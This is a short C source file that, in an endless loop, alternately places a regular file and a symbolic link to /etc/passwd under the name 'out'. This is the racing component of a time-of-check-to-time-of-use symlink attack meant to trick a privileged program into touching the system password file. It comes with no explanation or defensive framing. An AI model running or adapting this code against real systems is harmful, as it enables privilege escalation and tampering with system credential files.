/* Swaps a regular file and a link to another under one name, for ever. */
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>
int main(void) {
    for (;;) {
        int f = open("file", O_CREAT | O_WRONLY, 0644);
        write(f, "mine", 4);
        close(f);
        rename("file", "out");
        symlink("/etc/passwd", "link");
        rename("link", "out");
    }
}
